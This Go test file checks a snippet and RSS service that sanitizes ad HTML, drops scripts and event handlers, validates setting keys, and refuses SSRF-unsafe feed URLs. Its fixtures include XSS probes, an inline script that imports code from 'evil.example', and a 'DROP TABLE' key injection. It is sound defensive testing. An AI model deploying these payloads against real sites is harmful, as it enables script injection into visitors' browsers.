package encart

import (
	"context"
	"errors"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	_ "modernc.org/sqlite"

	"github.com/hazyhaar/encart/dbopen"
	"github.com/hazyhaar/encart/policy"
)

func testService(t *testing.T) *Service {
	t.Helper()
	db := dbopen.OpenMemory(t)
	svc, err := New(db, policy.Default(), slog.Default())
	if err != nil {
		t.Fatalf("new service: %v", err)
	}
	return svc
}

func TestServeUnknownLocation(t *testing.T) {
	// WHAT: An unknown location is an input error, not an empty bundle.
	// WHY: A typo in an integration must surface as 400, not silently
	// serve nothing forever.
	svc := testService(t)
	_, err := svc.Serve(context.Background(), "sidebar2")
	if !errors.Is(err, ErrInvalidInput) {
		t.Fatalf("err = %v, want ErrInvalidInput", err)
	}
}

func TestServeEmptyLocation(t *testing.T) {
	// WHAT: A valid location with no snippets yields an empty bundle
	// with non-nil script slices.
	svc := testService(t)
	b, err := svc.Serve(context.Background(), LocationFooter)
	if err != nil {
		t.Fatalf("serve: %v", err)
	}
	if b.HTML != "" || b.Scripts == nil || b.InlineScripts == nil {
		t.Errorf("bundle = %+v", b)
	}
	if len(b.Scripts) != 0 || len(b.InlineScripts) != 0 {
		t.Errorf("bundle = %+v", b)
	}
}

func TestServeRejectsHostileInlineScript(t *testing.T) {
	// WHAT: A snippet mixing markup with alert(1) serves the markup
	// and drops the script entirely.
	// WHY: End-to-end guarantee of the admission pipeline — the script
	// is gone from every field of the bundle, not relocated.
	svc := testService(t)
	ctx := context.Background()

	_, err := svc.CreateSnippet(ctx, "piege", LocationFooter, `<p>hello</p><script>alert(1)</script>`, true, 0)
	if err != nil {
		t.Fatalf("create: %v", err)
	}

	b, err := svc.Serve(ctx, LocationFooter)
	if err != nil {
		t.Fatalf("serve: %v", err)
	}
	if !strings.Contains(b.HTML, "<p>hello</p>") {
		t.Errorf("markup lost: %q", b.HTML)
	}
	if strings.Contains(b.HTML, "alert") || strings.Contains(b.HTML, "script") {
		t.Errorf("script leaked into HTML: %q", b.HTML)
	}
	if len(b.Scripts) != 0 || len(b.InlineScripts) != 0 {
		t.Errorf("hostile script admitted: %+v", b)
	}
}

func TestServeRejectsSandwichedInlinePayload(t *testing.T) {
	// WHAT: An inline script hiding a hostile statement between two
	// safe-looking assignments is dropped entirely from the bundle.
	// WHY: Shape matching anchors the whole body; a payload riding
	// inside a "matching" shape would be served to every visitor.
	svc := testService(t)
	ctx := context.Background()

	code := `<script>var x = {}; import('https://evil.example/x.js'); var y = {}</script>`
	if _, err := svc.CreateSnippet(ctx, "sandwich", LocationFooter, code, true, 0); err != nil {
		t.Fatalf("create: %v", err)
	}

	b, err := svc.Serve(ctx, LocationFooter)
	if err != nil {
		t.Fatalf("serve: %v", err)
	}
	if len(b.InlineScripts) != 0 || len(b.Scripts) != 0 {
		t.Errorf("hostile payload admitted: %+v", b)
	}
	if strings.Contains(b.HTML, "import") {
		t.Errorf("payload leaked into HTML: %q", b.HTML)
	}
}

func TestServeAdmitsTrustedScript(t *testing.T) {
	// WHAT: A snippet that is one trusted external script tag yields
	// empty HTML and the URL in Scripts.
	svc := testService(t)
	ctx := context.Background()

	const src = "https://www.googletagmanager.com/gtm.js?id=GTM-ABCD"
	_, err := svc.CreateSnippet(ctx, "gtm", LocationHeader, `<script src="`+src+`"></script>`, true, 0)
	if err != nil {
		t.Fatalf("create: %v", err)
	}

	b, err := svc.Serve(ctx, LocationHeader)
	if err != nil {
		t.Fatalf("serve: %v", err)
	}
	if strings.TrimSpace(b.HTML) != "" {
		t.Errorf("HTML = %q, want empty", b.HTML)
	}
	if len(b.Scripts) != 1 || b.Scripts[0] != src {
		t.Errorf("Scripts = %v", b.Scripts)
	}
}

func TestServeConcatenatesByPriority(t *testing.T) {
	// WHAT: Multiple active snippets for one location are served in
	// priority order; inactive ones are skipped.
	svc := testService(t)
	ctx := context.Background()

	if _, err := svc.CreateSnippet(ctx, "second", LocationSidebar, `<div id="b">2</div>`, true, 1); err != nil {
		t.Fatal(err)
	}
	if _, err := svc.CreateSnippet(ctx, "first", LocationSidebar, `<div id="a">1</div>`, true, 10); err != nil {
		t.Fatal(err)
	}
	if _, err := svc.CreateSnippet(ctx, "off", LocationSidebar, `<div id="c">3</div>`, false, 99); err != nil {
		t.Fatal(err)
	}

	b, err := svc.Serve(ctx, LocationSidebar)
	if err != nil {
		t.Fatalf("serve: %v", err)
	}
	ia := strings.Index(b.HTML, `id="a"`)
	ib := strings.Index(b.HTML, `id="b"`)
	if ia < 0 || ib < 0 || ia > ib {
		t.Errorf("order wrong: %q", b.HTML)
	}
	if strings.Contains(b.HTML, `id="c"`) {
		t.Errorf("inactive snippet served: %q", b.HTML)
	}
}

func TestServeStripsEventHandlers(t *testing.T) {
	// WHAT: The second pass removes handler attributes the extraction
	// pass left in place.
	svc := testService(t)
	ctx := context.Background()

	if _, err := svc.CreateSnippet(ctx, "h", LocationInContent, `<div onclick="alert(1)" data-ad-slot="5">pub</div>`, true, 0); err != nil {
		t.Fatal(err)
	}
	b, err := svc.Serve(ctx, LocationInContent)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(b.HTML, "onclick") {
		t.Errorf("handler survived: %q", b.HTML)
	}
	if !strings.Contains(b.HTML, "data-ad-slot") {
		t.Errorf("vendor attribute lost: %q", b.HTML)
	}
}

func TestSnippetValidation(t *testing.T) {
	// WHAT: Name, location, and code bounds are enforced on create.
	svc := testService(t)
	ctx := context.Background()

	cases := []struct {
		name, location, code string
	}{
		{"", LocationFooter, "<p>x</p>"},
		{"ok", "nowhere", "<p>x</p>"},
		{"ok", LocationFooter, ""},
		{"ok", LocationFooter, strings.Repeat("x", 32*1024+1)},
		{strings.Repeat("n", 300), LocationFooter, "<p>x</p>"},
	}
	for _, c := range cases {
		if _, err := svc.CreateSnippet(ctx, c.name, c.location, c.code, true, 0); !errors.Is(err, ErrInvalidInput) {
			t.Errorf("CreateSnippet(%q, %q, %d bytes): err = %v, want ErrInvalidInput",
				c.name, c.location, len(c.code), err)
		}
	}
}

func TestSnippetLifecycle(t *testing.T) {
	// WHAT: Create, update, and delete through the service, including
	// the not-found paths.
	svc := testService(t)
	ctx := context.Background()

	sn, err := svc.CreateSnippet(ctx, "promo", LocationBodyEnd, "<p>v1</p>", true, 0)
	if err != nil {
		t.Fatalf("create: %v", err)
	}

	up, err := svc.UpdateSnippet(ctx, sn.ID, "promo", LocationBodyEnd, "<p>v2</p>", false, 3)
	if err != nil {
		t.Fatalf("update: %v", err)
	}
	if up.Code != "<p>v2</p>" || up.Active || up.Priority != 3 {
		t.Errorf("update result: %+v", up)
	}

	if _, err := svc.UpdateSnippet(ctx, "absent", "promo", LocationBodyEnd, "<p>x</p>", true, 0); !errors.Is(err, ErrNotFound) {
		t.Errorf("update missing: %v", err)
	}

	if err := svc.DeleteSnippet(ctx, sn.ID); err != nil {
		t.Fatalf("delete: %v", err)
	}
	if err := svc.DeleteSnippet(ctx, sn.ID); !errors.Is(err, ErrNotFound) {
		t.Errorf("double delete: %v", err)
	}
	if _, err := svc.GetSnippet(ctx, sn.ID); !errors.Is(err, ErrNotFound) {
		t.Errorf("get deleted: %v", err)
	}
}

func TestAdvise(t *testing.T) {
	// WHAT: Advisory warnings name what the pipeline will strip.
	// WHY: Admins should learn about a rejected ad tag when saving it,
	// not from an empty page a week later.
	svc := testService(t)

	warnings := svc.Advise(`<div onclick="x()"><script>alert(1)</script></div>`)
	if len(warnings) < 2 {
		t.Errorf("warnings = %v", warnings)
	}

	if w := svc.Advise(`<p>rien a signaler</p>`); len(w) != 0 {
		t.Errorf("clean code warned: %v", w)
	}

	// An admitted trusted script does not warn.
	if w := svc.Advise(`<script src="https://www.googletagmanager.com/gtm.js"></script>`); len(w) != 0 {
		t.Errorf("trusted script warned: %v", w)
	}
}

func TestSettingsRoundTrip(t *testing.T) {
	// WHAT: Settings go through identifier validation and persist.
	svc := testService(t)
	ctx := context.Background()

	if err := svc.SetSetting(ctx, "site_title", "Mon blog"); err != nil {
		t.Fatalf("set: %v", err)
	}
	v, err := svc.GetSetting(ctx, "site_title")
	if err != nil || v != "Mon blog" {
		t.Fatalf("get: %q, %v", v, err)
	}

	if err := svc.SetSetting(ctx, "clef; DROP TABLE", "x"); !errors.Is(err, ErrInvalidInput) {
		t.Errorf("hostile key accepted: %v", err)
	}
}

func TestRefreshFeed(t *testing.T) {
	// WHAT: Refresh fetches, parses, sanitizes summaries, and upserts
	// idempotently; the fetch outcome lands on the feed row.
	svc := testService(t)
	ctx := context.Background()

	rss := `<?xml version="1.0"?>
<rss version="2.0"><channel><title>Test</title>
<item><guid>g1</guid><title>Un</title><link>https://example.com/1</link>
<description><![CDATA[<p>resume</p><script>alert(1)</script>]]></description></item>
</channel></rss>`
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/rss+xml")
		w.Write([]byte(rss))
	}))
	defer srv.Close()

	// Loopback URLs fail SSRF validation; tests bypass it.
	svc.urlValidator = func(string) error { return nil }

	f, err := svc.AddFeed(ctx, "test", srv.URL)
	if err != nil {
		t.Fatalf("add feed: %v", err)
	}

	n, err := svc.RefreshFeed(ctx, f.ID)
	if err != nil {
		t.Fatalf("refresh: %v", err)
	}
	if n != 1 {
		t.Errorf("inserted %d, want 1", n)
	}

	// Second refresh inserts nothing new.
	n, err = svc.RefreshFeed(ctx, f.ID)
	if err != nil || n != 0 {
		t.Errorf("second refresh: n=%d err=%v", n, err)
	}

	items, err := svc.ListFeedItems(ctx, f.ID, 10)
	if err != nil || len(items) != 1 {
		t.Fatalf("items: %v (%d)", err, len(items))
	}
	if strings.Contains(items[0].Summary, "script") {
		t.Errorf("summary not sanitized: %q", items[0].Summary)
	}

	feeds, _ := svc.ListFeeds(ctx)
	if len(feeds) != 1 || feeds[0].LastStatus != "ok" {
		t.Errorf("fetch not recorded: %+v", feeds)
	}

	if _, err := svc.RefreshFeed(ctx, "absent"); !errors.Is(err, ErrNotFound) {
		t.Errorf("refresh missing feed: %v", err)
	}
}

func TestAddFeedDuplicateURL(t *testing.T) {
	// WHAT: Registering the same feed URL twice is ErrDuplicate, so the
	// HTTP layer answers 409 instead of a generic 500.
	svc := testService(t)
	ctx := context.Background()
	svc.urlValidator = func(string) error { return nil }

	if _, err := svc.AddFeed(ctx, "un", "https://example.com/rss"); err != nil {
		t.Fatalf("first add: %v", err)
	}
	if _, err := svc.AddFeed(ctx, "deux", "https://example.com/rss"); !errors.Is(err, ErrDuplicate) {
		t.Errorf("second add: err = %v, want ErrDuplicate", err)
	}
}

func TestAddFeedValidatesURL(t *testing.T) {
	// WHAT: SSRF-unsafe URLs are refused at registration.
	svc := testService(t)
	ctx := context.Background()

	for _, u := range []string{"http://127.0.0.1/rss", "ftp://example.com/rss", "not a url"} {
		if _, err := svc.AddFeed(ctx, "x", u); !errors.Is(err, ErrInvalidInput) {
			t.Errorf("AddFeed(%q): err = %v, want ErrInvalidInput", u, err)
		}
	}
}
